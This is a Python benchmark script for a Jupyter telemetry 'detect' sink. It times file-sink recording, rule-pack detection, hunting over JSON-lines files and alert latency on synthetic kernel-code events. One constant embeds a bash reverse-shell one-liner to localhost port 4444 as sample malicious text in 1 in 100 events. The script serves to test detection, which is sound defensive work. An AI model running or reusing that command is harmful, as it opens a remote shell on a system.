"""The detect sink (the shipped rule pack) against the file sink's recording rate, and
the same rules run by the hunting path over the same events, in one run.

- file sink alone: events/s from the first ``record_event`` until ``flush`` returns
  (every event on disk): the recording rate detection has to keep up with. Each EventLog
  first records and flushes one event, untimed, so that the detect sink has compiled its
  rules (once, at start-up; timed on its own line) before the clock starts.
- detect + file sink: the same, with the ``detect`` sink evaluating the pack over every
  batch; the ratio to the line above says whether detection keeps up.
- engine only: ``Detector.match_json`` over batches of 500 and of the sink's batch size,
  no EventLog: DuckDB's share (each batch is one query with a fixed cost).
- hunt: ``Detector.match_files`` over the JSON-lines files the file sink wrote.
- alert latency: a paced stream (200 events/s, 1 in 20 malicious); for each alert, the
  time from the matched event's ``__timestamp__`` to the alert's own, p50 and p99.

1 event in 100 holds a reverse-shell one-liner (text only; it is never run). Run:
``python bench/bench_detect.py`` (``BENCH_QUICK=1`` for a short run).
"""

from __future__ import annotations

import os
import shutil
import statistics
import tempfile
import time
from datetime import datetime
from pathlib import Path
from typing import Any

import orjson
from _state import use_temporary_state

from telemetry_core import EventLog

use_temporary_state()

QUICK = os.environ.get("BENCH_QUICK") == "1"
N = 5_000 if QUICK else 50_000
KERNEL = "https://telemetry.jupyter.org/schemas/events/kernel/code-executed"
ALERT = "https://telemetry.jupyter.org/schemas/events/detect/alert"
PII = "user-identifiable-information"
POLICY = {KERNEL: {"allowed_categories": [PII], "consent": "required"},
          ALERT: {"allowed_categories": [PII], "consent": "required"}}
SHELL = "cmd = 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"
ROOMY = {"queue_max_events": N + 1, "queue_max_bytes": 2**31, "spool": False,
         "stats_interval": 0}


def code(i: int) -> str:
    return SHELL if i % 100 == 7 else f"df = pd.read_csv('data_{i}.csv')\ndf.describe()"


def record(sinks: list[dict[str, Any]], n: int) -> tuple[float, float]:
    """events/s recording ``n`` events until flushed, and the seconds the first event
    took to be flushed (start-up: the detect sink compiles its rules then)."""
    log = EventLog(allowed_schemas=POLICY, sinks=sinks)
    try:
        started = time.perf_counter()
        log.record_event(KERNEL, 1, {"kernel_id": "k", "status": "ok", "code": code(0),
                                     "user": "u0"})
        assert log.flush(timeout=600)
        start_up = time.perf_counter() - started
        started = time.perf_counter()
        for i in range(n):
            log.record_event(KERNEL, 1, {"kernel_id": "k", "status": "ok", "code": code(i),
                                         "user": f"u{i % 50}"})
        assert log.flush(timeout=600)
        assert log.flush(timeout=600)  # the alerts the detect sink recorded
        return n / (time.perf_counter() - started), start_up
    finally:
        log.close()


def latency(tmp: Path) -> tuple[float, float, int]:
    events = tmp / "latency"
    log = EventLog(allowed_schemas=POLICY, sinks=[
        {"type": "detect", **ROOMY}, {"type": "file", "path": f"{events}/", **ROOMY}])
    try:
        for i in range(400 if QUICK else 2000):
            log.record_event(KERNEL, 1, {"kernel_id": "k", "status": "ok", "user": "u",
                                         "code": SHELL if i % 20 == 0 else code(i + 1)})
            time.sleep(1 / 200)
        assert log.flush(timeout=600)
        assert log.flush(timeout=600)
    finally:
        log.close()
    recorded = [orjson.loads(line) for f in events.rglob("*.jsonl")
                for line in f.read_bytes().splitlines()]
    when = {e["__event_id__"]: e["__timestamp__"] for e in recorded}

    def seconds(ts: str) -> float:
        return datetime.fromisoformat(ts.replace("Z", "+00:00")).timestamp()

    delays = [seconds(a["__timestamp__"]) - seconds(when[eid]) for a in recorded
              if a["__schema__"] == ALERT for eid in a["matched_event_ids"]]
    cuts = statistics.quantiles(delays, n=100)
    return cuts[49] * 1000, cuts[98] * 1000, len(delays)


def engine_rate(detector: Any, size: int) -> float:
    """events/s of ``Detector.match_json`` over N events in batches of ``size``."""
    batch = [orjson.dumps({"__event_id__": str(i), "__timestamp__": "t", "__schema__": KERNEL,
                           "code": code(i), "user": "u"}) for i in range(size)]
    started, rounds = time.perf_counter(), max(1, N // size)
    for _ in range(rounds):
        detector.match_json(batch)
    return rounds * size / (time.perf_counter() - started)


def main() -> None:
    from telemetry_detect import Detector

    from telemetry_core.sinks import sink_class

    tmp = Path(tempfile.mkdtemp(prefix="bench-detect-"))
    try:
        file_only, _ = record([{"type": "file", "path": f"{tmp}/plain/", **ROOMY}], N)
        with_detect, start_up = record([{"type": "detect", **ROOMY},
                                        {"type": "file", "path": f"{tmp}/detected/", **ROOMY}],
                                       N)
        detector = Detector.shipped()
        sizes = (500, sink_class("detect").batch_size)
        engine = {size: engine_rate(detector, size) for size in sizes}
        files = [str(p) for p in (tmp / "plain").rglob("*.jsonl")]
        started = time.perf_counter()
        hunted = detector.match_files(files)
        hunt = N / (time.perf_counter() - started)
        p50, p99, alerts = latency(tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    rules = len(detector.rules) + len(detector.correlations)
    print(f"{N} kernel-code events, 1 in 100 malicious; the shipped pack ({rules} rules)")
    print(f"{'path':<34}{'events/s':>12}{'vs file sink':>14}")
    for name, rate in (("file sink alone", file_only), ("detect + file sink", with_detect),
                       *((f"engine only (batches of {size})", rate)
                         for size, rate in engine.items()),
                       ("hunt over the files", hunt)):
        print(f"{name:<34}{rate:>12,.0f}{rate / file_only:>13.2f}x")
    print(f"hunt matched {len(hunted)} events (expected {N // 100})")
    print(f"start-up of the detect sink (compiling the pack, once): {start_up:.2f} s")
    print(f"alert latency, paced at 200 events/s: p50 {p50:.0f} ms, p99 {p99:.0f} ms "
          f"({alerts} matched events)")


if __name__ == "__main__":
    main()
